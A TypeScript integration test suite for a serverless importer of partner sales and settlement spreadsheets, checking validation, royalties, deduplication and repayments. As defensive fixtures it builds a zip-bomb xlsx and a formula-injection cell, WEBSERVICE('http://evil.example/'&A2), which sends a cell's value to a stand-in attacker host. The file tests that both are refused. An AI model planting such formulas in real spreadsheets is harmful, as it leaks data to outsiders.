import * as XLSX from 'xlsx';
import { createHash } from 'node:crypto';
import { PutObjectCommand } from '@aws-sdk/client-s3';
import { describe, expect, it } from 'vitest';
import { asSen, rmToSen } from '../../shared/domain/money/money';
import { CONTINUE_PREFIX, DROP_PREFIXES, royaltySen } from '../../shared/domain/finance/uploaded-document';
import { headObject, s3Client } from '../../lambdas/core/clients/s3';
import { env } from '../../lambdas/core/env';
import { keys } from '../../lambdas/data/table/keys';
import { getOrg } from '../../lambdas/data/organisations/orgs';
import {
  createDocumentIfAbsent,
  getImportDocument,
  getSale,
  getSettlementReference,
  saleIdOf,
} from '../../lambdas/data/finance/partner-import';
import { getStoredRepayment } from '../../lambdas/data/finance/repayments';
import { table } from '../../lambdas/data/table/table';
import { uploadedDocumentId } from '../../lambdas/data/finance/uploaded-documents';
import { DEMO_COMPLETED_DISBURSEMENT_ID, DEMO_REPAYMENT_ID } from '../../dev/seeds/seed-settlements';
import { handler } from '../../lambdas/triggers/partner-files';
import { hostileSpreadsheets, xlsxBytes, zipBombXlsx } from '../support/import-files';
import { ONLY_XLSX_AND_CSV } from '../../shared/domain/files/spreadsheet-bytes';
import {
  SALES_HEADER,
  SETTLEMENTS_HEADER,
  csv,
  historyRow,
  logsOf,
  royaltyMonth,
  sqsEvent,
  useOwnStack,
} from '../support/partner-files';

/**
 * The partner-files trigger end to end: files put into the local bucket exactly as a partner's
 * system would, the stack's s3rver routing each ObjectCreated event to the trigger (as IAM would
 * allow it: the local access check holds it to its declaration), then what it wrote read back.
 * The stack is this file's own (test/support/partner-files.ts), so the trigger runs in this process.
 */
const { stack, drop } = useOwnStack();

/** Unique per run: references are recorded once per organisation. */
const RUN = Date.now().toString(36).toUpperCase();
const ref = (name: string) => `${RUN}-${name}`;

const invocation = { getRemainingTimeInMillis: () => 900_000 };

describe('sales files dropped into the bucket', () => {
  it('a good csv: every row a sale with its SALES history row and a SUCCESS log; COMPLETED with its counts', async () => {
    const file = await drop(
      `${DROP_PREFIXES.SALES}${RUN}/good.csv`,
      csv([SALES_HEADER, ['demo', '1250.50', '20/11/2026', ref('G1')], ['DEMO', '"1,000"', '21/11/2026', ref('G2')]]),
    );
    expect(file.doc).toMatchObject({
      status: 'COMPLETED',
      source: 'drop',
      uploadedBy: 'Partner drop',
      fileName: 'good.csv',
      type: 'SALES',
      rowsTotal: 2,
      rowsDone: 2,
      rowsSucceeded: 2,
      rowsFailed: 0,
    });
    expect(file.doc.completedAt).toBeGreaterThan(0);
    expect(file.logs.map((l) => [l.rowNo, l.status, l.errorMessage, l.errorMetadata])).toEqual([
      [2, 'SUCCESS', '', ''],
      [3, 'SUCCESS', '', ''],
    ]);
    const sale = await getSale('demo', saleIdOf('demo', ref('G1')));
    expect(sale).toMatchObject({ orgName: 'Demo Sdn Bhd', amountSen: 125_050, date: '2026-11-20', rowNo: 2 });
    expect(sale?.royaltySen).toBeUndefined();
    expect(JSON.parse(file.logs[0].metadata)).toMatchObject({
      values: { organisationCode: 'demo', amount: '1250.50', date: '20/11/2026', reference: ref('G1') },
      orgId: 'demo',
      saleId: sale?.id,
    });
    expect(await historyRow('demo', '2026-11-20', sale!.id)).toMatchObject({
      type: 'SALES',
      status: 'COMPLETED',
      amountSen: 125_050,
      description: `Sales ${ref('G1')}`,
      sourceId: sale!.id,
    });
    expect(await getSale('demo', saleIdOf('demo', ref('G2')))).toMatchObject({ amountSen: 100_000 });
  });

  it('a good xlsx, with a franchisee: its sale carries the royalty of its franchisor, added to the month', async () => {
    const month = '2031-03';
    const before = await royaltyMonth('kopi', month);
    const file = await drop(
      `${DROP_PREFIXES.SALES}${RUN}/kopi.xlsx`,
      xlsxBytes([
        ['Organisation Code', 'Amount', 'Date', 'Reference'],
        ['kopi-jb', '2400.00', '02/03/2031', ref('K1')],
        ['kopi-jb', '333.33', '03/03/2031', ref('K2')],
      ]),
    );
    expect(file.doc).toMatchObject({ status: 'COMPLETED', rowsSucceeded: 2, rowsFailed: 0 });
    const kopi = await getOrg('kopi');
    const rate = kopi!.royaltyRate!;
    expect(rate).toBe(6);
    const sale = await getSale('kopi-jb', saleIdOf('kopi-jb', ref('K2')));
    expect(sale).toMatchObject({
      franchisorId: 'kopi',
      franchisorName: kopi!.name,
      royaltyRate: rate,
      royaltySen: royaltySen(asSen(33_333), rate),
    });
    expect(sale?.royaltySen).toBe(2_000);
    const after = await royaltyMonth('kopi', month);
    const added = (name: string) => Number(after?.[name] ?? 0) - Number(before?.[name] ?? 0);
    expect(added('salesSen')).toBe(240_000 + 33_333);
    expect(added('royaltySen')).toBe(royaltySen(asSen(240_000), rate) + royaltySen(asSen(33_333), rate));
    expect(added('sales')).toBe(2);
    expect([...(after?.franchiseeIds as Set<string>)]).toEqual(['kopi-jb']);
    expect(after).toMatchObject({ gsi2pk: `ROYALTY#${month}`, gsi2sk: 'kopi', royaltyRate: rate });
  });

  it('a mixed file: the good rows land, each bad row is a FAILED log saying what to fix', async () => {
    const file = await drop(
      `${DROP_PREFIXES.SALES}${RUN}/mixed.csv`,
      csv([
        SALES_HEADER,
        ['demo', '10.00', '01/11/2026', ref('M1')],
        ['demo', '12.345', '01/11/2026', ref('M2')],
        ['nobody-here', '10.00', '01/11/2026', ref('M3')],
        ['borneo', '10.00', '01/11/2026', ref('M4')],
        ['', '', '', ''],
        ['demo', '11.00', '31/02/2026', ref('M5')],
      ]),
    );
    expect(file.doc).toMatchObject({
      status: 'COMPLETED_WITH_ERRORS',
      rowsTotal: 5,
      rowsDone: 5,
      rowsSucceeded: 1,
      rowsFailed: 4,
    });
    expect(file.logs.map((l) => [l.rowNo, l.status])).toEqual([
      [2, 'SUCCESS'],
      [3, 'FAILED'],
      [4, 'FAILED'],
      [5, 'FAILED'],
      [7, 'FAILED'],
    ]);
    const [, amount, unknown, onboarding, date] = file.logs;
    expect(amount.errorMessage).toBe('Row 3: amount must be an amount in RM with at most 2 decimals, e.g. 1250.50.');
    expect(unknown.errorMessage).toBe(
      "Row 4: There is no organisation with the code 'nobody-here'. Use the code the organisation signs in with.",
    );
    const values = { organisationCode: 'nobody-here', amount: '10.00', date: '01/11/2026', reference: ref('M3') };
    expect(JSON.parse(unknown.errorMetadata)).toEqual({
      problems: [
        {
          column: 'organisationCode',
          value: 'nobody-here',
          message: "There is no organisation with the code 'nobody-here'. Use the code the organisation signs in with.",
        },
      ],
      values,
    });
    expect(JSON.parse(unknown.metadata)).toEqual({ values });
    expect(onboarding.errorMessage).toContain('is Onboarding: sales are recorded only for Active organisations');
    expect(date.errorMessage).toContain('date is not a real date');
    expect(await getSale('demo', saleIdOf('demo', ref('M2')))).toBeUndefined();
    expect(await getSale('borneo', saleIdOf('borneo', ref('M4')))).toBeUndefined();
  });

  it('wrong columns: FAILED with the reason, no row written', async () => {
    const file = await drop(
      `${DROP_PREFIXES.SALES}${RUN}/columns.csv`,
      csv([
        ['organisationCode', 'amount', 'when', 'reference'],
        ['demo', '10.00', '01/11/2026', ref('C1')],
      ]),
    );
    expect(file.doc).toMatchObject({ status: 'FAILED', rowsTotal: 0, rowsDone: 0, rowsSucceeded: 0, rowsFailed: 0 });
    expect(file.doc.reason).toMatch(/^Wrong columns: missing column 'date'; unknown column 'when'\./);
    expect(file.doc.completedAt).toBeGreaterThan(0);
    expect(file.logs).toEqual([]);
    expect(await getSale('demo', saleIdOf('demo', ref('C1')))).toBeUndefined();
  });

  it('a hostile file (a zip bomb named .xlsx): FAILED with the reason, nothing written', async () => {
    const file = await drop(
      `${DROP_PREFIXES.SALES}${RUN}/bomb.xlsx`,
      zipBombXlsx([SALES_HEADER, ['demo', '10.00', '01/11/2026', ref('B1')]]),
    );
    expect(file.doc.status).toBe('FAILED');
    expect(file.doc.reason).toMatch(/^The xlsx file unpacks to .+, so it was not read\./);
    expect(file.logs).toEqual([]);
    expect(await getSale('demo', saleIdOf('demo', ref('B1')))).toBeUndefined();
  });

  it('a hostile file (an .xlsx with a formula cell among good rows): FAILED naming the cell, nothing written', async () => {
    const sheet = XLSX.utils.aoa_to_sheet([
      SALES_HEADER,
      ['demo', 10, '01/11/2026', ref('F1')],
      ['demo', 10, '01/11/2026', ref('F2')],
    ]);
    sheet.B3 = { t: 'n', v: 10, f: 'WEBSERVICE("http://evil.example/"&A2)' };
    const workbook = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(workbook, sheet, 'Sales');
    const bytes = new Uint8Array(XLSX.write(workbook, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer);
    const file = await drop(`${DROP_PREFIXES.SALES}${RUN}/formula.xlsx`, bytes);
    expect(file.doc.status).toBe('FAILED');
    expect(file.doc.reason).toMatch(/^Row 3, amount: the cell holds a formula \(=WEBSERVICE\(/);
    expect(file.logs).toEqual([]);
    expect(await getSale('demo', saleIdOf('demo', ref('F1')))).toBeUndefined();
  });

  it('the same object twice lands nothing twice; the same content under a new key fails every row as recorded', async () => {
    const month = '2031-04';
    const body = csv([
      SALES_HEADER,
      ['kopi-jb', '100.00', '01/04/2031', ref('T1')],
      ['demo', '50.00', '01/04/2031', ref('T2')],
      ['demo', '60.00', '02/04/2031', ref('T2')],
    ]);
    const key = `${DROP_PREFIXES.SALES}${RUN}/twice.csv`;
    const first = await drop(key, body);
    // A reference twice in one file: the second row is refused, naming the first.
    expect(first.doc).toMatchObject({ status: 'COMPLETED_WITH_ERRORS', rowsSucceeded: 2, rowsFailed: 1 });
    expect(first.logs[2].errorMessage).toBe(
      `Row 4: Reference ${ref('T2')} is already recorded for this organisation (file twice.csv, row 3).`,
    );
    const royalties = await royaltyMonth('kopi', month);

    const again = await drop(key, body);
    expect(again.id).toBe(first.id);
    expect(again.doc).toEqual(first.doc);
    expect(again.logs).toEqual(first.logs);
    expect(await royaltyMonth('kopi', month)).toEqual(royalties);

    const copy = await drop(`${DROP_PREFIXES.SALES}${RUN}/twice-copy.csv`, body);
    expect(copy.id).not.toBe(first.id);
    expect(copy.doc).toMatchObject({ status: 'COMPLETED_WITH_ERRORS', rowsSucceeded: 0, rowsFailed: 3 });
    expect(copy.logs.map((l) => l.errorMessage)).toEqual([
      `Row 2: Reference ${ref('T1')} is already recorded for this organisation (file twice.csv, row 2).`,
      `Row 3: Reference ${ref('T2')} is already recorded for this organisation (file twice.csv, row 3).`,
      `Row 4: Reference ${ref('T2')} is already recorded for this organisation (file twice.csv, row 3).`,
    ]);
    expect(await royaltyMonth('kopi', month)).toEqual(royalties);
    expect(await getSale('demo', saleIdOf('demo', ref('T2')))).toMatchObject({
      amountSen: 5_000,
      uploadedDocumentId: first.id,
    });
  });

  it('a large file is done in parts, each resuming where the last stopped, with exact counts', async () => {
    process.env.PARTNER_IMPORT_PART_ROWS = '4';
    try {
      const rows = Array.from({ length: 10 }, (_, i) =>
        i === 6 ? ['demo', 'ten', '05/11/2026', ref(`P${i}`)] : ['demo', `${i + 1}.00`, '05/11/2026', ref(`P${i}`)],
      );
      const file = await drop(`${DROP_PREFIXES.SALES}${RUN}/parts.csv`, csv([SALES_HEADER, ...rows]));
      expect(file.doc).toMatchObject({
        status: 'COMPLETED_WITH_ERRORS',
        rowsTotal: 10,
        rowsDone: 10,
        rowsSucceeded: 9,
        rowsFailed: 1,
      });
      expect(file.parts).toBe(3);
      expect(file.logs.map((l) => l.rowNo)).toEqual([2, 3, 4, 5, 6, 7, 8, 9, 10, 11]);
      expect(file.logs.filter((l) => l.status === 'FAILED').map((l) => l.rowNo)).toEqual([8]);
      // The markers that started parts 2 and 3.
      expect(await headObject(env.uploadsBucket, `${CONTINUE_PREFIX}${file.id}/2`)).toBeDefined();
      expect(await headObject(env.uploadsBucket, `${CONTINUE_PREFIX}${file.id}/3`)).toBeDefined();
      expect(await headObject(env.uploadsBucket, `${CONTINUE_PREFIX}${file.id}/4`)).toBeUndefined();
      for (const i of [0, 3, 4, 9]) expect(await getSale('demo', saleIdOf('demo', ref(`P${i}`)))).toBeDefined();
    } finally {
      Reflect.deleteProperty(process.env, 'PARTNER_IMPORT_PART_ROWS');
    }
  });
});

describe('deliveries', () => {
  it("imports an administrator's upload whose document uploadedDocuments-create wrote first, keeping who uploaded it", async () => {
    const key = `${DROP_PREFIXES.SALES}uploads/${RUN}/admin.csv`;
    const body = csv([SALES_HEADER, ['demo', '7.00', '07/11/2026', ref('A1')]]);
    // S3's ETag of a single-part PUT is the MD5 of its body: the document's id is known beforehand.
    const eTag = createHash('md5').update(body).digest('hex');
    const now = Math.floor(Date.now() / 1000);
    await createDocumentIfAbsent({
      id: uploadedDocumentId(key, eTag),
      file: key,
      fileName: 'November sales.csv',
      type: 'SALES',
      downloadUrl: '',
      status: 'PROCESSING',
      source: 'upload',
      uploadedBy: 'Aminah Ismail',
      size: Buffer.byteLength(body),
      eTag,
      rowsTotal: 0,
      rowsDone: 0,
      rowsSucceeded: 0,
      rowsFailed: 0,
      createdAt: now,
      modifiedAt: now,
    });
    const file = await drop(key, body);
    expect(file.id).toBe(uploadedDocumentId(key, eTag));
    expect(file.doc).toMatchObject({
      status: 'COMPLETED',
      source: 'upload',
      uploadedBy: 'Aminah Ismail',
      fileName: 'November sales.csv',
      rowsSucceeded: 1,
    });
    expect(file.parts).toBe(1);
  });

  it('three deliveries of one object at once land every row exactly once', async () => {
    const key = `${DROP_PREFIXES.SALES}${RUN}/race.csv`;
    const rows = Array.from({ length: 70 }, (_, i) => ['demo', `${i + 1}.00`, '06/11/2026', ref(`R${i}`)]);
    const body = csv([SALES_HEADER, ...rows]);
    const out = await (
      await s3Client()
    ).send(new PutObjectCommand({ Bucket: env.uploadsBucket, Key: key, Body: body }));
    const object = { key, size: Buffer.byteLength(body), eTag: out.ETag ?? '' };
    // The bucket's own delivery is on its way; two more come at the same moment.
    const results = await Promise.all([
      handler(sqsEvent('m1', object), invocation),
      handler(sqsEvent('m2', object), invocation),
    ]);
    await stack().uploadsIdle();
    expect(results).toEqual([{ batchItemFailures: [] }, { batchItemFailures: [] }]);
    const id = uploadedDocumentId(key, object.eTag);
    const stored = await getImportDocument(id);
    expect(stored?.doc).toMatchObject({ status: 'COMPLETED', rowsTotal: 70, rowsDone: 70, rowsSucceeded: 70 });
    expect((await logsOf(id)).map((l) => l.rowNo)).toEqual(Array.from({ length: 70 }, (_, i) => i + 2));
    const sales = await Promise.all(rows.map((r) => getSale('demo', saleIdOf('demo', r[3]))));
    expect(sales.map((s) => [s?.amountSen, s?.uploadedDocumentId])).toEqual(rows.map((_, i) => [(i + 1) * 100, id]));
  });

  it('refuses a file larger than 10 MB by the size its event gives, without reading it', async () => {
    const key = `${DROP_PREFIXES.SALES}${RUN}/huge.csv`;
    const object = { key, size: 11 * 1024 * 1024, eTag: 'not-read' };
    expect(await handler(sqsEvent('m3', object), invocation)).toEqual({ batchItemFailures: [] });
    const stored = await getImportDocument(uploadedDocumentId(key, object.eTag));
    expect(stored?.doc).toMatchObject({
      status: 'FAILED',
      reason: 'The file is too large (11 MB); a file can be at most 10 MB. Split the rows over several files.',
      source: 'drop',
      size: object.size,
    });
  });

  it.each(hostileSpreadsheets([SALES_HEADER.join(','), `demo,1.00,01/11/2026,${ref('H1')}`]))(
    "refuses $what with the spec's message (the site's check), nothing written",
    async ({ name, bytes }) => {
      const file = await drop(`${DROP_PREFIXES.SALES}${RUN}/${name}`, bytes);
      expect(file.doc).toMatchObject({ status: 'FAILED', reason: ONLY_XLSX_AND_CSV });
      expect(file.logs).toEqual([]);
      expect(await getSale('demo', saleIdOf('demo', ref('H1')))).toBeUndefined();
    },
  );

  it('refuses a file of another kind (a wrong extension) with the reason', async () => {
    const file = await drop(
      `${DROP_PREFIXES.SALES}${RUN}/sales.txt`,
      csv([SALES_HEADER, ['demo', '1.00', '01/11/2026', ref('X1')]]),
    );
    expect(file.doc).toMatchObject({ status: 'FAILED', reason: 'Only xlsx and csv files are allowed!' });
    expect(file.logs).toEqual([]);
  });
});

describe('settlement files dropped into the bucket', () => {
  it("pays a settlement down exactly as an administrator's payment does, once per reference", async () => {
    const before = (await getStoredRepayment('demo', DEMO_REPAYMENT_ID))!;
    const creditBefore = (await getOrg('demo'))!.disbursements.creditLimitSen!;
    const tooMuch = ((before.amountDueSen + 100) / 100).toFixed(2);
    const file = await drop(
      `${DROP_PREFIXES.SETTLEMENTS}${RUN}/bank.csv`,
      csv([
        SETTLEMENTS_HEADER,
        ['demo', DEMO_COMPLETED_DISBURSEMENT_ID, '12.34', '24/11/2026', ref('S1')],
        ['demo', DEMO_COMPLETED_DISBURSEMENT_ID, '5.00', '24/11/2026', ref('S1')],
        ['demo', DEMO_COMPLETED_DISBURSEMENT_ID, tooMuch, '24/11/2026', ref('S2')],
        ['demo', 'NO-SUCH-DISBURSEMENT', '5.00', '24/11/2026', ref('S3')],
        ['other', DEMO_COMPLETED_DISBURSEMENT_ID, '5.00', '24/11/2026', ref('S4')],
      ]),
    );
    expect(file.doc).toMatchObject({ status: 'COMPLETED_WITH_ERRORS', rowsTotal: 5, rowsSucceeded: 1, rowsFailed: 4 });
    expect(file.logs.map((l) => l.errorMessage)).toEqual([
      '',
      `Row 3: Reference ${ref('S1')} is already recorded for this organisation (file bank.csv, row 2).`,
      `Row 4: Amount Repaid cannot be more than the amount due (RM ${((before.amountDueSen - 1234) / 100).toFixed(2)}).`,
      "Row 5: Organisation 'demo' has no disbursement 'NO-SUCH-DISBURSEMENT'. Copy the id from the disbursement's page.",
      `Row 6: Organisation 'other' has no disbursement '${DEMO_COMPLETED_DISBURSEMENT_ID}'. Copy the id from the disbursement's page.`,
    ]);

    const after = (await getStoredRepayment('demo', DEMO_REPAYMENT_ID))!;
    expect(after.amountDueSen).toBe(before.amountDueSen - 1234);
    expect(after.amountRepaidSen).toBe(before.amountRepaidSen + 1234);
    expect((await getOrg('demo'))!.disbursements.creditLimitSen).toBe(creditBefore + 1234);
    const metadata = JSON.parse(file.logs[0].metadata) as { repaymentTransactionId: string };
    expect(metadata).toMatchObject({ orgId: 'demo', repaymentId: DEMO_REPAYMENT_ID, amountRepaid: 12.34 });
    const transaction = await table.get({
      Key: keys.repaymentTransaction('demo', DEMO_REPAYMENT_ID, metadata.repaymentTransactionId),
    });
    expect(transaction.Item).toMatchObject({
      amountRepaidSen: 1234,
      paymentDate: '2026-11-24',
      isVoid: false,
      createdBy: 'Partner file bank.csv',
    });
    const row = transaction.Item!.historyRow as { paymentDate: string; id: string };
    expect(await historyRow('demo', row.paymentDate, row.id)).toMatchObject({
      type: 'SETTLEMENT',
      status: 'COMPLETED',
      amountSen: 1_234,
      description: `Settlement of ${before.disbursement.name}`,
      sourceId: metadata.repaymentTransactionId,
    });
    expect(await getSettlementReference('demo', ref('S1'))).toEqual({
      documentId: file.id,
      rowNo: 2,
      repaymentTransactionId: metadata.repaymentTransactionId,
    });
  });
});

describe('the demo seed', () => {
  it('dropped a sales file with one bad row and a settlement file that paid RM 250 towards Demo', async () => {
    const { DEMO_SALES_FILE_KEY, DEMO_SETTLEMENTS_FILE_KEY } = await import('../../dev/seeds/seed-uploads');
    for (const [key, status] of [
      [DEMO_SALES_FILE_KEY, 'COMPLETED_WITH_ERRORS'],
      [DEMO_SETTLEMENTS_FILE_KEY, 'COMPLETED'],
    ] as const) {
      const head = await headObject(env.uploadsBucket, key);
      const stored = await getImportDocument(uploadedDocumentId(key, head!.eTag));
      expect(stored?.doc.status).toBe(status);
    }
    const repayment = await getStoredRepayment('demo', DEMO_REPAYMENT_ID);
    expect(repayment?.amountRepaidSen).toBeGreaterThanOrEqual(rmToSen(1750 + 250));
  });
});
